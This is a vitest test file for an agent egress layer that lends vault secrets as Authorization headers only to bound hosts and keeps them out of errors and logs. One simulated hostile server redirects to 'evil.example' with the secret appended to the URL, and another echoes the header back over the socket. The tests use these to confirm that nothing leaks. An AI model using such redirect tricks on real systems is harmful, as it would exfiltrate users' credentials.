import { err, moltbotError } from "@moltbot/contracts";
import { describe, expect, it } from "vitest";
import { ALL_CONTROLS, createEgressWith } from "./create-egress.ts";
import { SECRET, signal, open, toPublic, tool, get, setUp, codeOf } from "./test-support/set-up.ts";
import type { Answer } from "./test-support/set-up.ts";
import { keptLog, lenderOf, startWorld } from "./test-support/world.ts";

describe("secrets", () => {
  const secret = { name: "weather", header: "Authorization", prefix: "Bearer " };

  it("puts a lent secret on the wire for the host it is bound to, in place of the caller's own header", async () => {
    const { world, egress } = await setUp((_request, response) => response.end());
    await egress.send(
      tool("example.org:80"),
      get("http://example.org/", { secret, headers: { authorization: "mine" } }),
      signal,
    );
    expect(world.hits[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
  });

  it("takes a secret that is bound to the host with all its ports", async () => {
    const world = await startWorld((_request, response) => response.end());
    const egress = createEgressWith(
      { secrets: lenderOf("weather", SECRET, "example.org"), lookup: toPublic, isCanary: () => false, log: keptLog() },
      { ...ALL_CONTROLS, dial: world.dial },
    );
    open.push(world, egress);
    expect(
      codeOf(await egress.send(tool("example.org:8080"), get("http://example.org:8080/", { secret }), signal)),
    ).toBe("status 200");
    expect(world.hits[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
  });

  it("sends nothing when the vault does not lend", async () => {
    const { world, egress } = await setUp((_request, response) => response.end());
    expect(codeOf(await egress.send(tool("other.example:80"), get("http://other.example/", { secret }), signal))).toBe(
      "SECRET_NOT_BOUND",
    );
    expect(
      codeOf(
        await egress.send(
          tool("example.org:80"),
          get("http://example.org/", { secret: { ...secret, name: "none" } }),
          signal,
        ),
      ),
    ).toBe("SECRET_NOT_FOUND");
    expect(world.hits).toHaveLength(0);
  });

  it("gives no answer away that cannot be searched: the vault closed while it was under way", async () => {
    const world = await startWorld((_request, response) => response.end("an answer"));
    const lender = lenderOf("weather", SECRET, "example.org:80");
    const locked = err(moltbotError("VAULT_LOCKED", { problem: "it was closed" }));
    const egress = createEgressWith(
      {
        secrets: { ...lender, lendAll: (use) => (world.hits.length === 0 ? lender.lendAll(use) : locked) },
        lookup: toPublic,
        isCanary: () => false,
        log: keptLog(),
      },
      { ...ALL_CONTROLS, dial: world.dial },
    );
    open.push(world, egress);
    const answer = await egress.send(tool("example.org:80"), get("http://example.org/", { secret }), signal);
    expect(answer).toMatchObject({ ok: false, error: { code: "VAULT_LOCKED" } });
    expect(world.hits).toHaveLength(1);
    expect(JSON.stringify(answer)).not.toContain("an answer");
  });

  it("never lets its text into an error or a log, whatever goes wrong", async () => {
    const log = keptLog();
    const outputs: string[] = [];
    const endings: Answer[] = [
      (request) => request.socket.destroy(),
      (request) => request.socket.end(`${request.headers.authorization}\r\n\r\n`),
      (request, response) =>
        response.writeHead(302, { location: "http://evil.example/" + request.headers.authorization }).end(),
      (_request, response) => response.setHeader("content-encoding", "gzip").end("broken"),
    ];
    for (const ending of endings) {
      const { egress } = await setUp(ending, { log });
      outputs.push(
        JSON.stringify(await egress.send(tool("example.org:80"), get("http://example.org/", { secret }), signal)),
      );
      const thrown: unknown = await egress
        .fetchFor(
          tool("example.org:80"),
          secret,
        )("http://example.org/")
        .then((response) => response.text())
        .catch((error: unknown) => error);
      outputs.push(
        JSON.stringify(thrown),
        String(thrown),
        thrown instanceof Error ? `${thrown.stack} ${String(thrown.cause)}` : "",
      );
    }
    const world = await startWorld((_request, response) => response.end());
    const broken = createEgressWith(
      {
        secrets: lenderOf("weather", `${SECRET}\nline`, "example.org:80"),
        lookup: toPublic,
        isCanary: () => false,
        log,
      },
      { ...ALL_CONTROLS, dial: world.dial },
    );
    open.push(world, broken);
    const unformed = await broken.send(tool("example.org:80"), get("http://example.org/", { secret }), signal);
    expect(!unformed.ok && unformed.error.context["problem"]).toBe("the request could not be formed");
    outputs.push(JSON.stringify(unformed), ...log.lines);
    expect(outputs.length).toBeGreaterThan(16);
    expect(outputs.filter((output) => output.includes(SECRET))).toEqual([]);
  });
});
